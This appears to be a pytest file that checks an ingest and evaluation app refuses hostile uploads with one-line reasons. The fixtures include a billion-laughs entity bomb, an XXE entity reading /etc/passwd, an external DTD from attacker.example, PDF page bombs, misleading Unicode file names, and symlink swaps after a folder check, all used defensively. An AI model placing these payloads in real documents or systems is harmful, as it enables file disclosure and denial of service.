"""Hostile files (issue 21): each ends in a one-line reason, and nothing is kept or written half-way.

Each class is tried through the functions the pages and the CLIs call, and through the page that shows it (AppTest):
encodings, nesting, numbers and field sizes in eval-set and judge-check uploads; Word files whose XML is malformed,
nested or declares entities; control characters in the folder field; upload names in any script and of any length;
files that ask for far more work than their size (pages, rows, chunks, CPU seconds); files and folders swapped for
links between the folder check and the read. The hostile files are built here, small.
"""

from __future__ import annotations

import json
import os
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from evaluation import evalset, judge_check
from evaluation.evalset import EvalSetError, keep_upload, read_rows
from evaluation.judge_check import PairFileError, parse_pairs
from ingest import chunking, loaders
from ingest.ingestor import ingest_configured
from ingest.loaders import DEFAULT_LIMITS, FileLimits, LoadError, load_documents
from ingest.roots import allowed_sources, check_folder
from ingest.uploads import MAX_NAME_BYTES, safe_name, staged_uploads, unique_names
from settings import Settings
from tests.apptest import fresh_app, run_ingest
from tests.conftest import REPO
from tests.pdf import write_pdf, write_pdf_repeated_page
from tests.test_kb_formats import write_docx
from tests.test_kb_page import open_kb, table_with, texts

SKY = (REPO / "samples/kb/sky_uk.txt").read_text()
SECRET = "The vault code is 4417."


def one_line(message: str) -> str:
    assert "\n" not in message and "Traceback" not in message, message
    return message


@pytest.fixture
def app(settings) -> Iterator[AppTest]:
    with fresh_app(timeout=120) as app:
        yield app


# --- eval-set and judge-check uploads ---------------------------------------------------------------------------------

PAIR = {"knowledge": "Jean Ribault founded Fort Caroline in 1564.", "question": "Who founded Fort Caroline?"}
# (file name, bytes, words the refusal must hold): a spreadsheet's Latin-1 export, JSON nested past the recursion
# limit, a number past Python's int-string limit, a CSV field past the csv module's limit
HOSTILE_SETS = {
    "latin-1 csv": ("questions.csv", "question,reference\nWhich café sells crème brûlée?,The quay café\n".encode("cp1252"),
                    "questions.csv: not valid UTF-8 text (line 2); it looks like Latin-1/Windows-1252: save it as UTF-8"),
    "nested json": ("questions.jsonl", b'{"question": "q", "reference": ' + b"[" * 50_000 + b"]" * 50_000 + b"}\n",
                    "questions.jsonl: line 1 is nested too deeply to read"),
    "long number": ("questions.jsonl", b'{"question": "q", "id": ' + b"7" * 5000 + b"}\n",
                    "questions.jsonl: line 1 holds a number 5,000 digits long"),
    "huge csv field": ("questions.csv", b"question,reference\nq," + b"x" * 200_000 + b"\n",
                       "questions.csv: not a readable CSV file (line 2: field larger than field limit"),
}
HOSTILE_PAIRS = {  # the judge check reads JSON Lines: the same classes, as its rows
    "latin-1": ("pairs.jsonl", json.dumps({**PAIR, "answer": "Jean Ribault, à Fort Caroline.", "label": "faithful"},
                                          ensure_ascii=False).encode("cp1252"),
                "pairs.jsonl: not valid UTF-8 text (line 1); it looks like Latin-1/Windows-1252"),
    "nested json": ("pairs.jsonl", b'{"answer": ' + b"[" * 50_000 + b"]" * 50_000 + b"}\n",
                    "pairs.jsonl: line 1 is nested too deeply to read"),
    "long number": ("pairs.jsonl", b'{"answer": ' + b"1" * 5000 + b"}\n", "pairs.jsonl: line 1 holds a number 5,000 digits"),
}


@pytest.mark.parametrize("case", HOSTILE_SETS)
def test_a_hostile_eval_set_is_refused_with_its_reason_and_not_kept(settings, tmp_path, case):
    name, data, reason = HOSTILE_SETS[case]
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(EvalSetError) as refused:
        read_rows(path)
    assert one_line(str(refused.value)).startswith(reason)
    with pytest.raises(EvalSetError, match=re.escape(reason)):
        keep_upload(settings, name, data)
    assert not (settings.data_dir / "evalsets").exists()  # nothing was kept


@pytest.mark.parametrize("case", HOSTILE_PAIRS)
def test_a_hostile_judge_check_file_is_refused_with_its_reason(case):
    name, data, reason = HOSTILE_PAIRS[case]
    with pytest.raises(PairFileError) as refused:
        parse_pairs(data, name)
    assert one_line(str(refused.value)).startswith(reason)


def test_the_evaluation_page_says_why_each_hostile_upload_is_refused(app, sample_data):
    app.run()
    app.switch_page("views/evaluation.py").run()
    for name, data, reason in HOSTILE_SETS.values():
        app.file_uploader(key="eval.upload").set_value((name, data, "application/octet-stream")).run()
        assert not app.exception, name
        assert reason in texts(app.error).replace("\\", "")  # the page escapes Markdown punctuation
        assert app.button(key="eval.run").disabled
    for name, data, reason in HOSTILE_PAIRS.values():
        app.file_uploader(key="trust.upload").set_value((name, data, "application/octet-stream")).run()
        assert not app.exception, name
        assert reason in texts(app.error).replace("\\", "")
    assert not (sample_data.data_dir / "evalsets").exists()


def test_whatever_a_reader_raises_ends_as_the_modules_error(tmp_path, monkeypatch):
    """The one boundary per module: an exception no one foresaw is a plain refusal too, never a traceback."""
    (tmp_path / "set.csv").write_text("question\nWhere?\n")
    monkeypatch.setattr(evalset, "csv_records", lambda *_: {}["a new kind of failure"])
    with pytest.raises(EvalSetError, match=r"^set.csv: cannot be read \(KeyError: 'a new kind of failure'\)$"):
        read_rows(tmp_path / "set.csv")
    monkeypatch.setattr(judge_check, "numbered_jsonl", lambda *_: 1 / 0)
    with pytest.raises(PairFileError, match=r"^pairs.jsonl: cannot be read \(ZeroDivisionError: division by zero\)$"):
        parse_pairs(b"{}", "pairs.jsonl")
    page = tmp_path / "page.html"
    page.write_text("<p>The ferry leaves at dawn.</p>")
    monkeypatch.setattr("bs4.BeautifulSoup", lambda *_: [].pop())
    with pytest.raises(LoadError, match=r"^page.html: not a readable HTML page \(IndexError: pop from empty list\)$"):
        load_documents(page)


# --- Word files whose XML attacks the parser --------------------------------------------------------------------------

W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10))
HOSTILE_XML = {  # part, its XML, the refusal's words
    "malformed": ("word/document.xml", b"<w:document " + W + b"><w:body><w:p>",
                  "not a readable Word document: its XML is malformed or nested too deeply (Premature end of data"),
    "nested": ("word/document.xml", b"<w:document " + W + b"><w:body>" + b"<w:p>" * 5000 + b"</w:p>" * 5000
               + b"</w:body></w:document>",
               "not a readable Word document: its XML is malformed or nested too deeply (Excessive depth"),
    "billion laughs": ("word/document.xml", b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">' + LAUGHS
                       + b"]><w:document " + W + b"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>",
                       "its XML (word/document.xml) declares a DTD or entities, which Word never writes"),
    "external entity": ("word/document.xml", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document '
                        + W + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>",
                        "its XML (word/document.xml) declares a DTD or entities"),
    "external DTD in another part": ("word/styles.xml", b'<!DOCTYPE s SYSTEM "http://attacker.example/s.dtd"><w:styles '
                                     + W + b"/>", "its XML (word/styles.xml) declares a DTD or entities"),
}


def docx_with(path: Path, part: str, xml: bytes) -> Path:
    """A real Word document with one XML part replaced (or added)."""
    good = write_docx(path.with_name("good-" + path.name), ["The first ferry leaves at 6:40."])
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, xml if item.filename == part else source.read(item.filename))
        if part not in source.namelist():
            out.writestr(part, xml)
    return path


@pytest.mark.parametrize("case", HOSTILE_XML)
def test_a_word_file_whose_xml_attacks_the_parser_is_refused_in_plain_words(tmp_path, case):
    part, xml, reason = HOSTILE_XML[case]
    with pytest.raises(LoadError) as refused:
        load_documents(docx_with(tmp_path / "notes.docx", part, xml))
    message = one_line(str(refused.value))
    assert message.startswith(f"notes.docx: {reason}") and "root:" not in message


def test_the_preview_says_why_a_hostile_word_file_cannot_be_read(app, tmp_path):
    open_kb(app)
    for case, (part, xml, reason) in HOSTILE_XML.items():
        data = docx_with(tmp_path / f"{case.replace(' ', '-')}.docx", part, xml).read_bytes()
        app.file_uploader(key="kb.files").set_value([(f"{case}.docx", data, "application/octet-stream")]).run()
        app.selectbox(key="kb.preview_doc").select(f"{case}.docx").run()
        assert not app.exception, case
        assert reason in texts(app.warning), case


# --- the folder field -------------------------------------------------------------------------------------------------

def test_a_folder_path_that_cannot_be_a_path_is_refused_in_one_line(tmp_path):
    roots = [tmp_path]
    with pytest.raises(LoadError, match=r"a folder path with a control character in it \(a NUL byte or a line break\)"):
        allowed_sources(tmp_path / "kb\x00", roots)
    with pytest.raises(LoadError, match=r"not a usable folder \(OSError: \[Errno 36\] File name too long"):
        allowed_sources(tmp_path / ("k" * 5000), roots)


def test_the_folder_field_refuses_a_nul_byte_with_a_message(app, settings):
    open_kb(app)
    app.text_input(key="kb.folder").input("samples/kb\x00/../../etc").run()
    assert not app.exception
    assert "a folder path with a control character in it" in texts(app.error)


# --- upload names -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "kept"), [
    ("会议纪要.md", "会议纪要.md"),
    ("Отчёт.pdf", "Отчёт.pdf"),
    ("résumé final.txt", "résumé_final.txt"),
    ("invoice\u202efdp.md", "invoice_fdp.md"),  # a right-to-left override would make the name read backwards
    ("a\u200bb.md", "a_b.md"),  # zero-width space
    ("\u2066\u2069.md", "upload.md"),  # nothing visible but the extension
])
def test_an_upload_name_in_any_script_keeps_its_letters_and_extension(name, kept):
    assert safe_name(name) == kept


def test_long_upload_names_keep_their_extension_stay_apart_and_within_bounds(tmp_path):
    prefix = "Minutes of the harbour authority's quarterly meeting on ferry timetables and pier maintenance " * 3
    names = [f"{prefix}{n}.md" for n in range(300)] + ["会议纪要" * 60 + ".md"] * 2
    with staged_uploads([(name, b"x") for name in names], tmp_path / "data") as staged:  # once failed whole
        sources = [source for _, source in staged]
        assert all(path.is_file() for path, _ in staged)
    clean = [s.removeprefix("upload/") for s in sources]
    assert len(set(clean)) == len(names)
    assert all(c.endswith(".md") and len(c.encode()) <= MAX_NAME_BYTES for c in clean)
    assert clean == unique_names(names)  # the same names every time: a re-ingest finds the same documents
    assert clean[0].startswith("Minutes_of_the_harbour_authority") and clean[-2].startswith("会议纪要" * 10)  # readable


def test_uploads_with_such_names_are_all_ingested(settings, store, embedder):
    prefix = "Sky UK broadcasting history notes kept for the quarterly archive review " * 3
    names = ["会议纪要.md", "Отчёт.txt", *(f"{prefix}{n}.md" for n in range(8))]
    with staged_uploads([(name, f"{SKY[:600]} Copy {n}.".encode()) for n, name in enumerate(names)],
                        settings.data_dir) as staged:
        report = ingest_configured(settings, store, embedder, staged, "names")
    assert [o.status for o in report.outcomes] == ["added"] * len(names)
    assert [o.source for o in report.outcomes][:2] == ["upload/会议纪要.md", "upload/Отчёт.txt"]


# --- what one file may cost -------------------------------------------------------------------------------------------

def test_a_tiny_pdf_naming_one_page_90000_times_is_refused_before_extraction(tmp_path):
    bomb = write_pdf_repeated_page(tmp_path / "pages.pdf", 300)
    assert bomb.stat().st_size < 5000
    with pytest.raises(LoadError, match=r"^pages.pdf: 90,000 pages, more than the 2,000 read per PDF "
                                        r"\(FQA_MAX_PDF_PAGES\); not read$"):
        load_documents(bomb)
    liar = write_pdf_repeated_page(tmp_path / "liar.pdf", 60, declared=1)  # claims one page, lists 3,600
    with pytest.raises(LoadError, match=r"^liar.pdf: 3,600 pages, more than the 2,000 read per PDF"):
        load_documents(liar)
    fine = write_pdf_repeated_page(tmp_path / "fine.pdf", 3)  # nine listings of the page: under the limit, read
    assert load_documents(fine)[0].text.count("6:40") == 9


def test_a_small_csv_of_many_rows_is_refused_at_the_row_limit(tmp_path):
    rows = tmp_path / "rows.csv"
    rows.write_text("text\n" + "".join(f"r{i}\n" for i in range(200_000)))  # 1.5 MB
    with pytest.raises(LoadError, match=r"^rows.csv: more than 20,000 rows, the limit per file "
                                        r"\(FQA_MAX_ROWS_PER_FILE\); not read"):
        load_documents(rows)
    lines = tmp_path / "rows.jsonl"
    lines.write_text("".join(json.dumps({"text": f"Ferry {i} leaves at dawn."}) + "\n" for i in range(11)))
    with pytest.raises(LoadError, match=r"more than 10 rows, the limit per file \(FQA_MAX_ROWS_PER_FILE\)"):
        load_documents(lines, limits=replace(DEFAULT_LIMITS, max_rows=10))
    assert len(load_documents(lines, limits=replace(DEFAULT_LIMITS, max_rows=11))) == 11


def test_a_file_over_the_chunk_limit_is_refused_before_it_is_chunked(monkeypatch):
    spec = chunking.ChunkSpec(size=100, overlap=10)
    doc = loaders.LoadedDocument("big.txt", "", "The ferry leaves at dawn. " * 400)  # 10,400 characters
    chunked = []
    monkeypatch.setattr(chunking, "chunk_document", lambda *a: chunked.append(a) or [])
    with pytest.raises(LoadError, match=r"^big.txt: more than 50 chunks at chunk size 100 characters, the limit per "
                                        r"file \(FQA_MAX_CHUNKS_PER_FILE\); not read"):
        chunking.chunk_within([doc], spec, None, 50, "big.txt")
    assert not chunked  # refused from its size alone, before any chunk was made


def test_each_budget_refuses_its_file_in_an_ingest_and_the_others_go_in(settings, store, embedder, tmp_path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "good.md").write_text(SKY[:500])
    (folder / "long.md").write_text(SKY * 3)
    write_pdf(folder / "slow.pdf", ["The first ferry leaves at 6:40."] * 20)
    (folder / "rows.jsonl").write_text("".join(json.dumps({"text": f"Ferry {i}."}) + "\n" for i in range(30)))
    tight = settings.with_overrides(max_chunks_per_file=5, max_rows_per_file=20, chunk_size=300, chunk_overlap=30)
    report = ingest_configured(tight, store, embedder, [(p, p.name) for p in sorted(folder.iterdir())], "budget")
    reasons = {o.source: o.reason for o in report.outcomes}
    assert [o.source for o in report.outcomes if o.status == "added"] == ["good.md", "slow.pdf"]
    assert "FQA_MAX_CHUNKS_PER_FILE" in reasons["long.md"] and "FQA_MAX_ROWS_PER_FILE" in reasons["rows.jsonl"]
    assert {c.source for c in store.scroll("budget")} == {"good.md", "slow.pdf"}  # nothing of a refused file

    instant = settings.with_overrides(max_extract_seconds=1e-9)  # no file can be read in a nanosecond of CPU
    [outcome] = ingest_configured(instant, store, embedder, [(folder / "slow.pdf", "slow2.pdf")], "budget").outcomes
    assert outcome.reason == ("slow2.pdf: reading its text took more than 1e-09 s of CPU, the limit per file "
                              "(FQA_MAX_EXTRACT_SECONDS); not read")


def test_the_budgets_are_settings(monkeypatch):
    monkeypatch.setenv("FQA_MAX_PDF_PAGES", "7")
    monkeypatch.setenv("FQA_MAX_ROWS_PER_FILE", "8")
    monkeypatch.setenv("FQA_MAX_CHUNKS_PER_FILE", "9")
    monkeypatch.setenv("FQA_MAX_EXTRACT_SECONDS", "1.5")
    limits = FileLimits.of(Settings())
    assert (limits.max_pdf_pages, limits.max_rows, limits.max_chunks, limits.max_seconds) == (7, 8, 9, 1.5)


# --- links swapped in after the folder check --------------------------------------------------------------------------

@pytest.fixture
def roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """allowed/kb (the one root's documents, one in a subfolder) and outside/ with a secret beside the same names."""
    kb, outside = tmp_path / "allowed" / "kb", tmp_path / "outside"
    (kb / "sub").mkdir(parents=True)
    outside.mkdir()
    (kb / "a.md").write_text(SKY[:400])
    (kb / "b.md").write_text("Ferries leave from pier two.")
    (kb / "sub" / "c.md").write_text("Yachts moor at pier three.")
    for name in ("b.md", "c.md"):
        (outside / name).write_text(SECRET)
    monkeypatch.setenv("FQA_INGEST_ROOTS", str(tmp_path / "allowed"))
    return tmp_path


def test_a_file_or_folder_swapped_for_a_link_after_the_check_is_refused_not_followed(settings, store, embedder, roots):
    settings = Settings()  # FQA_INGEST_ROOTS from the fixture
    files, refused = allowed_sources(roots / "allowed" / "kb", settings.ingest_roots)
    assert not refused and len(files) == 3
    kb, outside = roots / "allowed" / "kb", roots / "outside"
    (kb / "b.md").unlink()  # between the check and the read: the file becomes a link out...
    (kb / "b.md").symlink_to(outside / "b.md")
    (kb / "sub").rename(roots / "old-sub")  # ...and so does the folder holding c.md
    (kb / "sub").symlink_to(outside, target_is_directory=True)
    report = ingest_configured(settings, store, embedder, files, "swapped")
    outcomes = {o.source: o for o in report.outcomes}
    assert outcomes["kb/a.md"].status == "added"
    for source in ("kb/b.md", "kb/sub/c.md"):
        assert outcomes[source].status == "failed"
        assert outcomes[source].reason == (f"{source}: is a link, or lies in a folder that is one (it changed after it "
                                           "was checked); not read")
    assert not any(SECRET in c.text for c in store.scroll("swapped"))


def test_a_fifo_swapped_in_is_refused_without_hanging(settings, roots):
    settings = Settings()
    files, _ = allowed_sources(roots / "allowed" / "kb", settings.ingest_roots)
    path = next(p for p, source in files if source == "kb/b.md")
    path.unlink()
    os.mkfifo(path)  # opening a FIFO for reading would wait for a writer forever
    with pytest.raises(LoadError, match=r"^kb/b.md: not a regular file; not read$"):
        load_documents(path, "kb/b.md", FileLimits.of(settings))


def test_a_refused_link_never_says_where_it_leads(roots, monkeypatch):
    monkeypatch.chdir(REPO)
    with pytest.raises(LoadError) as refused:
        check_folder(Path("/proc/self/cwd"), [roots / "allowed"])
    assert str(REPO) not in str(refused.value)
    assert "(it is a link, or passes through one, leading out of them)" in str(refused.value)
